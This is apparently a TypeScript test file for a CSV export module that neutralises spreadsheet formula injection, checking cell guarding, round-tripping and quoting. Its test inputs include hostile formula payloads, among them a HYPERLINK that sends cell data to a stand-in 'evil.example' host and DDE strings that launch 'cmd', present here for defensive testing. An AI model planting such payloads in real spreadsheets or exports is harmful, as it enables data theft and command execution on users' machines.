// Tests CSV that is safe to open (promise P27 in docs/promises.md). Planted defects that turned this file red on 20 Nov 2026: guard for `=`
// only; no check behind spaces; apostrophes removed from every cell.

import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { type CsvValue, csvCell, csvDocument, csvRow, guardCell, unguardCell } from '#domain/basics/csv.ts'

describe('guardCell', () => {
  it.each([
    ...[
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      ' =1',
      '\t=1',
      '\n=1',
      '\u00a0=1',
      "'=1",
      "''=1",
      '＝1',
      '＋1',
      '－1',
      '＠x',
      '\tx',
      '\rx',
      '\nx',
    ],
    ...[
      '=HYPERLINK("http://evil.example?"&A1,"click")',
      "=cmd|' /C calc'!A0",
      '-2+3+cmd|x',
      '+234 803 123 4567',
    ],
  ])('marks %j', (text) => {
    expect(guardCell(text)).toBe(`'${text}`)
  })

  it.each(['', 'Ada', '1=1', "'tis", "o'neil", 'a@b.c', '5-6', '₦-5', '(-5)', '|x', '%x'])(
    'leaves %j',
    (text) => {
      expect(guardCell(text)).toBe(text)
    },
  )

  it('is undone exactly, for any text', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .array(fc.constantFrom("'", '=', '+', '-', '@', ' ', '\t', '\n', 'a', '＝'), { maxLength: 8 })
        .map((parts) => parts.join('')),
    )
    fc.assert(
      fc.property(text, (value) => {
        expect(unguardCell(guardCell(value))).toBe(value)
      }),
      { numRuns: 5_000, seed: 27 },
    )
  })
})

describe('csvCell', () => {
  it.each([
    [null, ''],
    ['', ''],
    ['Ada', 'Ada'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded ', '" padded "'],
    ['=1,2', '"\'=1,2"'],
    ['nul\u0000', 'nul'],
    [-5, '-5'],
    [1.5, '1.5'],
    [0, '0'],
    [true, 'true'],
  ] satisfies [CsvValue, string][])('%j -> %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell)
  })

  it('throws on a number that is none', () => {
    expect(() => csvCell(Number.NaN)).toThrow(RangeError)
  })
})

it('writes rows and documents', () => {
  expect(csvRow(['Ada', null, 5])).toBe('Ada,,5\r\n')
  expect(csvDocument(['name', 'price'], [['Ọjà', 150_000]])).toBe('\ufeffname,price\r\nỌjà,150000\r\n')
})

it('is read back by another program, text for text', () => {
  const cell = fc.string({ unit: 'grapheme' }).map((text) => text.replaceAll('\0', ''))
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1, maxLength: 10 }), (rows) => {
      const parsed = Papa.parse<string[]>(csvDocument(['a', 'b', 'c'], rows).replace('\ufeff', ''), {
        delimiter: ',',
        newline: '\r\n',
      })

      expect(parsed.data.slice(1, -1).map((row) => row.map(unguardCell))).toEqual(rows)
    }),
    { numRuns: 500, seed: 28 },
  )
})
